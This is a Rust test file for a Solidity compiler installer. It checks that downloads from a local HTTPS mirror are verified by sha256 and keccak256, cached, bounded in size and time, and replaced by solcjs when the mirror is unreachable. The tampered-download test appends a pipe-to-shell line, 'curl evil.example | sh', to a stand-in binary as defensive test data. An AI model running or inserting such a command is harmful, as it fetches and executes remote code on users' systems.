//! The native compiler installed from a binary list served over HTTPS (a
//! local server behind stunnel with a CA made for the test, answering as
//! the official list does): installed after both checksums match, reused
//! without asking again; a tampered download refused with nothing
//! installed; an unreachable list remembered for 24 h of an injected clock;
//! nothing asked offline; solcjs standing in, saying why.

use std::{
    path::Path,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::{Duration, SystemTime},
};

use alloy_primitives::{hex, keccak256};
use axum::{Router, extract::State, http::StatusCode, response::IntoResponse, routing::get};
use semver::Version;
use sha2::{Digest, Sha256};
use slipway_net::{NetSettings, ProxySettings, Timeouts, Trust};
use slipway_solc::{
    CompilerKind, ResolveOptions, SolcError,
    native::{NativeOptions, Skipped, ensure, installed_path},
};
use slipway_testkit::{TestCa, TlsFront, free_port};

const PINNED: Version = Version::new(0, 8, 20);
const BINARY: &str = "solc-linux-amd64-v0.8.20+commit.a1b79de6";

/// A stand-in compiler: a script that answers `--version` as solc does.
fn stand_in() -> Vec<u8> {
    b"#!/bin/sh\necho 'solc, the solidity compiler commandline interface'\necho 'Version: 0.8.20+commit.a1b79de6.Linux.g++'\n".to_vec()
}

fn digest_sha256(bytes: &[u8]) -> String {
    format!("0x{}", hex::encode(Sha256::digest(bytes)))
}

fn digest_keccak(bytes: &[u8]) -> String {
    format!("0x{}", hex::encode(keccak256(bytes)))
}

/// A list as the official one is shaped, for the given digests.
fn list(version: &str, sha256: &str, keccak: &str) -> String {
    serde_json::json!({
        "builds": [
            {
                "path": "solc-linux-amd64-v0.8.19+commit.7dd6d404",
                "version": "0.8.19", "build": "commit.7dd6d404",
                "longVersion": "0.8.19+commit.7dd6d404",
                "keccak256": "0x00", "sha256": "0x00", "urls": []
            },
            {
                "path": BINARY, "version": version, "build": "commit.a1b79de6",
                "longVersion": format!("{version}+commit.a1b79de6"),
                "keccak256": keccak, "sha256": sha256,
                "urls": ["dweb:/ipfs/QmExample"]
            }
        ],
        "releases": { version: BINARY },
        "latestRelease": version
    })
    .to_string()
}

#[derive(Clone)]
struct Served {
    list: String,
    binary: Vec<u8>,
    requests: Arc<AtomicUsize>,
}

async fn list_json(State(s): State<Served>) -> impl IntoResponse {
    s.requests.fetch_add(1, Ordering::SeqCst);
    s.list.clone()
}

async fn binary(State(s): State<Served>) -> impl IntoResponse {
    s.requests.fetch_add(1, Ordering::SeqCst);
    (StatusCode::OK, s.binary.clone())
}

/// The list and binary over HTTPS; what it counts; the CA to trust.
struct Mirror {
    url: String,
    requests: Arc<AtomicUsize>,
    ca: TestCa,
    _front: TlsFront,
    _runtime: tokio::runtime::Runtime,
}

fn mirror(list: String, binary_bytes: Vec<u8>) -> Mirror {
    let requests = Arc::new(AtomicUsize::new(0));
    let served = Served {
        list,
        binary: binary_bytes,
        requests: requests.clone(),
    };
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .expect("runtime");
    let listener = runtime
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    let router = Router::new()
        .route("/linux-amd64/list.json", get(list_json))
        .route(&format!("/linux-amd64/{BINARY}"), get(binary))
        .with_state(served);
    runtime.spawn(async move { axum::serve(listener, router).await });
    let ca = TestCa::new();
    let front = TlsFront::start(addr, &ca.server(&["127.0.0.1"]));
    Mirror {
        url: front.https(""),
        requests,
        ca,
        _front: front,
        _runtime: runtime,
    }
}

fn options(mirror_url: &str, ca: &TestCa, now: SystemTime) -> NativeOptions {
    NativeOptions {
        offline: false,
        mirror: mirror_url.to_owned(),
        net: NetSettings {
            trust: Trust::only(ca.root()),
            proxy: ProxySettings::none(),
            hosts: Vec::new(),
            system_dns: false,
        },
        timeouts: Timeouts::uniform(Duration::from_secs(5)),
        download_timeout: Duration::from_secs(5),
        max_list_bytes: slipway_solc::native::MAX_LIST_BYTES,
        max_binary_bytes: slipway_solc::native::MAX_BINARY_BYTES,
        now,
        platform: Some("linux-amd64"),
        cache_dir: None,
    }
}

fn honest() -> Mirror {
    let bytes = stand_in();
    mirror(
        list("0.8.20", &digest_sha256(&bytes), &digest_keccak(&bytes)),
        bytes,
    )
}

fn no_files_but_the_lock(dir: &Path) {
    if let Ok(entries) = std::fs::read_dir(dir) {
        let names: Vec<String> = entries
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n != "install.lock")
            .collect();
        assert!(names.is_empty(), "left behind: {names:?}");
    }
}

#[test]
fn a_listed_build_is_checked_installed_and_then_reused_without_asking() {
    let cache = tempfile::tempdir().expect("cache");
    let served = honest();
    let options = options(&served.url, &served.ca, SystemTime::now());
    let path = ensure(&PINNED, cache.path(), &options, &|_| {})
        .expect("no error")
        .expect("installed");
    assert_eq!(path, installed_path(cache.path(), &PINNED));
    assert_eq!(std::fs::read(&path).expect("installed"), stand_in());
    assert_eq!(
        slipway_solc::probe_version(&path)
            .expect("runs")
            .to_string(),
        "0.8.20+commit.a1b79de6.Linux.gcc"
    );
    assert_eq!(served.requests.load(Ordering::SeqCst), 2, "list and binary");
    ensure(&PINNED, cache.path(), &options, &|_| {})
        .expect("no error")
        .expect("installed");
    assert_eq!(served.requests.load(Ordering::SeqCst), 2, "not asked again");
}

#[test]
fn a_tampered_download_is_refused_and_nothing_is_installed() {
    let genuine = stand_in();
    let mut tampered = genuine.clone();
    tampered.extend_from_slice(b"curl evil.example | sh\n");
    for (sha, keccak, digest) in [
        (digest_sha256(&genuine), digest_keccak(&genuine), "sha256"),
        (
            digest_sha256(&tampered),
            digest_keccak(&genuine),
            "keccak256",
        ),
    ] {
        let cache = tempfile::tempdir().expect("cache");
        let served = mirror(list("0.8.20", &sha, &keccak), tampered.clone());
        let error = ensure(
            &PINNED,
            cache.path(),
            &options(&served.url, &served.ca, SystemTime::now()),
            &|_| {},
        )
        .expect_err("refused");
        match &error {
            SolcError::Checksum { digest: d, .. } => assert_eq!(*d, digest, "{error}"),
            other => panic!("{other}"),
        }
        assert!(error.to_string().contains("nothing installed"), "{error}");
        let target = installed_path(cache.path(), &PINNED);
        assert!(!target.exists());
        no_files_but_the_lock(target.parent().expect("dir"));
    }
}

#[test]
fn an_unreachable_list_is_remembered_for_a_day() {
    let cache = tempfile::tempdir().expect("cache");
    let served = honest();
    let start = SystemTime::now();
    let closed = format!("https://127.0.0.1:{}", free_port());
    let first = ensure(
        &PINNED,
        cache.path(),
        &options(&closed, &served.ca, start),
        &|_| {},
    )
    .expect("not an error");
    match first {
        Err(Skipped::Unreachable(why)) => assert!(why.contains("connection refused"), "{why}"),
        other => panic!("{other:?}"),
    }
    // The list is back, but 23 hours later it is not asked.
    let later = start + Duration::from_secs(23 * 3600);
    let skipped = ensure(
        &PINNED,
        cache.path(),
        &options(&served.url, &served.ca, later),
        &|_| {},
    )
    .expect("not an error");
    assert!(
        matches!(skipped, Err(Skipped::Unreachable(_))),
        "{skipped:?}"
    );
    assert_eq!(served.requests.load(Ordering::SeqCst), 0);
    // After 24 hours it is.
    let next_day = start + Duration::from_secs(25 * 3600);
    ensure(
        &PINNED,
        cache.path(),
        &options(&served.url, &served.ca, next_day),
        &|_| {},
    )
    .expect("no error")
    .expect("installed");
    assert_eq!(served.requests.load(Ordering::SeqCst), 2);
}

#[test]
fn offline_asks_nothing_and_an_unlisted_version_is_skipped() {
    let cache = tempfile::tempdir().expect("cache");
    let served = honest();
    let mut offline = options(&served.url, &served.ca, SystemTime::now());
    offline.offline = true;
    assert_eq!(
        ensure(&PINNED, cache.path(), &offline, &|_| {}).expect("fine"),
        Err(Skipped::Offline)
    );
    assert_eq!(served.requests.load(Ordering::SeqCst), 0);

    let bytes = stand_in();
    let other = mirror(
        list("0.8.21", &digest_sha256(&bytes), &digest_keccak(&bytes)),
        bytes,
    );
    assert_eq!(
        ensure(
            &PINNED,
            cache.path(),
            &options(&other.url, &other.ca, SystemTime::now()),
            &|_| {}
        )
        .expect("fine"),
        Err(Skipped::NotListed)
    );
}

#[test]
fn an_untrusted_mirror_is_unreachable_by_its_certificate_and_solcjs_stands_in() {
    let cache = tempfile::tempdir().expect("cache");
    let served = honest();
    let stranger = TestCa::new();
    let resolve_options = ResolveOptions {
        // No native solc on this PATH; node and npm are found on the real one.
        search_path: Some(
            std::env::join_paths(
                std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
                    .filter(|dir| !dir.join("solc").exists()),
            )
            .expect("PATH"),
        ),
        // solcjs from the shared per-user cache (installed once for every
        // test); the native attempt in a cache of its own.
        native: Some(NativeOptions {
            cache_dir: Some(cache.path().to_path_buf()),
            ..options(&served.url, &stranger, SystemTime::now())
        }),
        ..Default::default()
    };
    let compiler = slipway_solc::resolve(&PINNED, &resolve_options, &|_| {}).expect("solcjs");
    assert_eq!(compiler.kind, CompilerKind::SolcJs);
    let note = compiler.note.expect("says why");
    assert!(note.contains("certificate not trusted"), "{note}");
    assert_eq!(served.requests.load(Ordering::SeqCst), 0);
    // The "unreachable" marker went to the native cache the options name,
    // not the per-user one (a test once left it there for a day).
    assert!(cache.path().join("solc/list-unreachable").is_file());
}

/// A mirror that lies about sizes or stalls: a list larger than allowed, a
/// compiler declared at 4 GiB, one served past the limit without saying
/// so, one that stalls after its first bytes. Each is refused without
/// reading it into memory, remembered as an unreachable list is, and
/// leaves nothing behind (a 4 GiB "binary" once aborted slipway with a
/// failed allocation; a 2.9 GB list reached 2.8 GB of memory).
#[test]
fn a_hostile_mirror_is_bounded_and_remembered() {
    use axum::{body::Body, http::header};
    #[derive(Clone, Copy)]
    enum Lie {
        Declares4GiB,
        ServesTooMuch,
        Stalls,
    }
    async fn lying(State(lie): State<Lie>) -> axum::response::Response {
        let endless = futures::stream::unfold(0u64, |n| async move {
            // A byte a tick, forever.
            tokio::time::sleep(Duration::from_millis(50)).await;
            Some((
                Ok::<_, std::io::Error>(axum::body::Bytes::from_static(b"x")),
                n + 1,
            ))
        });
        match lie {
            Lie::Declares4GiB => axum::response::Response::builder()
                .header(header::CONTENT_LENGTH, "4294967296")
                .body(Body::from_stream(endless))
                .expect("response"),
            Lie::ServesTooMuch => axum::response::Response::builder()
                .body(Body::from(vec![b'x'; 64 * 1024]))
                .expect("response"),
            Lie::Stalls => axum::response::Response::builder()
                .body(Body::from_stream(endless))
                .expect("response"),
        }
    }
    let bytes = stand_in();
    let list_text = list("0.8.20", &digest_sha256(&bytes), &digest_keccak(&bytes));
    for (lie, limit, deadline, says) in [
        (
            Lie::Declares4GiB,
            slipway_solc::native::MAX_BINARY_BYTES,
            5,
            "4294967296 bytes",
        ),
        (Lie::ServesTooMuch, 1024, 5, "more than the 1024"),
        (
            Lie::Stalls,
            slipway_solc::native::MAX_BINARY_BYTES,
            1,
            "within 1 s",
        ),
    ] {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()
            .expect("runtime");
        let listener = runtime
            .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
            .expect("bind");
        let addr = listener.local_addr().expect("addr");
        let text = list_text.clone();
        let router = Router::new()
            .route("/linux-amd64/list.json", get(move || async move { text }))
            .route(&format!("/linux-amd64/{BINARY}"), get(lying))
            .with_state(lie);
        runtime.spawn(async move { axum::serve(listener, router).await });
        let ca = TestCa::new();
        let front = TlsFront::start(addr, &ca.server(&["127.0.0.1"]));
        let cache = tempfile::tempdir().expect("cache");
        let options = NativeOptions {
            max_binary_bytes: limit,
            download_timeout: Duration::from_secs(deadline),
            ..options(&front.https(""), &ca, SystemTime::now())
        };
        let skipped = ensure(&PINNED, cache.path(), &options, &|_| {})
            .expect("not an error: solcjs stands in")
            .expect_err("nothing installed");
        match skipped {
            Skipped::Unreachable(why) => assert!(why.contains(says), "{why}"),
            other => panic!("{other:?}"),
        }
        assert!(
            cache.path().join("solc/list-unreachable").is_file(),
            "remembered"
        );
        no_files_but_the_lock(installed_path(cache.path(), &PINNED).parent().expect("dir"));
    }

    // A list past its limit is refused the same way.
    let served = honest();
    let cache = tempfile::tempdir().expect("cache");
    let options = NativeOptions {
        max_list_bytes: 100,
        ..options(&served.url, &served.ca, SystemTime::now())
    };
    let skipped = ensure(&PINNED, cache.path(), &options, &|_| {})
        .expect("no error")
        .expect_err("refused");
    assert!(
        matches!(&skipped, Skipped::Unreachable(why) if why.contains("more than the 100")),
        "{skipped:?}"
    );
}
